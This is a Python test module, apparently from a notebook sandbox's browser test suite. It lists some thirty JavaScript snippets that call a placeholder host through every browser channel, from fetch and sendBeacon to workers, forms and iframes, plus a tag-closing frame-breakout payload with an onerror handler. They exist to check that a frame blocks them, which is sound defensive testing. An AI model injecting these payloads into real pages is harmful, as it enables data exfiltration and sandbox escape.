"""Script that reaches elsewhere by every way that a page's script has, and out of a frame.

Under plain ipykernel it runs in the page. At level ``frame`` it runs too, in the frame, and the
frame is what stops it. (WebRTC is not among them: nothing that was tried stops it, and the
documentation says so.)
"""

# ruff: noqa: E501 - what an attack says is easier to read in one piece

from tests.browser.attacks.attack import SAVED, Attack, html

_FAR = "@HOST@/@MARK@"
_RAN = "window.pwned_ran=(window.pwned_ran||[]).concat(`@MARK@`);"
_CALLS = {
    "fetch": f"fetch(`{_FAR}/fetch`,{{mode:`no-cors`,keepalive:true}})",
    "xhr": f"var x=new XMLHttpRequest();x.open(`GET`,`{_FAR}/xhr`);x.send()",
    "send-beacon": f"navigator.sendBeacon(`{_FAR}/send`,`x`)",
    "websocket": f"new WebSocket(`{_FAR}/socket`.replace(`http`,`ws`))",
    "eventsource": f"new EventSource(`{_FAR}/events`)",
    "image": f"new Image().src=`{_FAR}/image`",
    "audio": f"new Audio(`{_FAR}/audio`).play()",
    "font": f"new FontFace(`x`,`url({_FAR}/font)`).load()",
    "import": f"import(`{_FAR}/a.js`)",
    "worker": f"new Worker(URL.createObjectURL(new Blob([`fetch('{_FAR}/worker')`])))",
    "worker-data": f"new Worker(`data:text/javascript,fetch('{_FAR}/worker')`)",
    "worker-shared": f"new SharedWorker(URL.createObjectURL(new Blob([`fetch('{_FAR}/worker')`])))",
    "top": f"top.location.href=`{_FAR}/top`",
    "location": f"location.href=`{_FAR}/location`",
    "open": f"window.open(`{_FAR}/open`)",
    "open-written": f"var w=window.open(``);w.document.write(`<img src={_FAR}/written>`)",
    "link-click": f"var a=document.createElement(`a`);a.href=`{_FAR}/link`;a.target=`_top`;document.body.append(a);a.click()",
    "link-blank": f"var a=document.createElement(`a`);a.href=`{_FAR}/blank`;a.target=`_blank`;document.body.append(a);a.click()",
    "download": f"var a=document.createElement(`a`);a.href=`{_FAR}/download`;a.download=`x`;document.body.append(a);a.click()",
    "form": f"var f=document.createElement(`form`);f.action=`{_FAR}/form`;f.method=`post`;f.target=`_top`;document.body.append(f);f.submit()",
    "refresh": f"var m=document.createElement(`meta`);m.httpEquiv=`refresh`;m.content=`0;url={_FAR}/refresh`;document.head.append(m)",
    "hint": f"var l=document.createElement(`link`);l.rel=`prefetch`;l.href=`{_FAR}/hint`;document.head.append(l)",
    "sheet": f"var l=document.createElement(`link`);l.rel=`stylesheet`;l.href=`{_FAR}/a.css`;document.head.append(l)",
    "frame": f"var i=document.createElement(`iframe`);i.src=`{_FAR}/frame`;document.body.append(i)",
    "frame-blob": f"var i=document.createElement(`iframe`);i.src=URL.createObjectURL(new Blob([`<img src={_FAR}/blob>`],{{type:`text/html`}}));document.body.append(i)",
    "frame-srcdoc": f"var i=document.createElement(`iframe`);i.srcdoc=`<img src={_FAR}/srcdoc>`;document.body.append(i)",
    "frame-blank": f"var i=document.createElement(`iframe`);document.body.append(i);i.contentWindow.fetch(`{_FAR}/blank`)",
    "frame-list": f"for(var i=0;i!=top.frames.length;i++)try{{top.frames[i].eval(`fetch('{_FAR}/list')`)}}catch(e){{}};fetch(`{_FAR}/own`)",
    "parent": f"parent.document.body.append(Object.assign(parent.document.createElement(`img`),{{src:`{_FAR}/parent`}}))",
    "history": f"top.history.pushState(null,``,`?@MARK@`);top.fetch(`{_FAR}/history`)",
    "rules": f"var s=document.createElement(`script`);s.type=`speculationrules`;s.textContent=JSON.stringify({{prefetch:[{{source:`list`,urls:[`{_FAR}/rules`]}}]}});document.head.append(s)",
}

ATTACKS = (
    *(
        Attack(
            f"call-{name}",
            f"script that calls out: {name}",
            html(f"<script>{_RAN}{code}</script>"),
            SAVED,
        )
        for name, code in _CALLS.items()
    ),
    Attack(
        "break-out",
        "markup that closes what a frame is written in",
        html(
            "<script>1</script><!-- \"'`>--></script></template></textarea></iframe>\">'></iframe>&quot;>&lt;/iframe>"
            '<img src=x: onerror="@JS@">'
        ),
        SAVED,
    ),
)
